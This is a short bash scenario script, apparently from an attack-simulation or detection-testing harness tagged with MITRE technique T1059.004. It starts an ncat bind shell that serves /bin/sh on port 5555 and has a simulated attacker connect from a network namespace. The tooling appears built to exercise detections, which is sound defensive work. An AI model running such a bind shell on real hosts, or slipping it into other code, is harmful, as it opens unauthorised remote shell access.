#!/usr/bin/env bash
# Bind shell: `ncat -l -p PORT -e /bin/sh` on the host; the attacker connects from the namespace.
. "$(dirname "$0")/../lib.sh"
scn_begin bindshell-ncat T1059.004
scn_require ncat
scn_netns_up
ncat -l "$SCN_HOST" 5555 -e /bin/sh 2>/dev/null &
scn_track $!
scn_wait_listen 5555
scn_attacker_connect "$SCN_HOST" 5555
scn_shell_finish
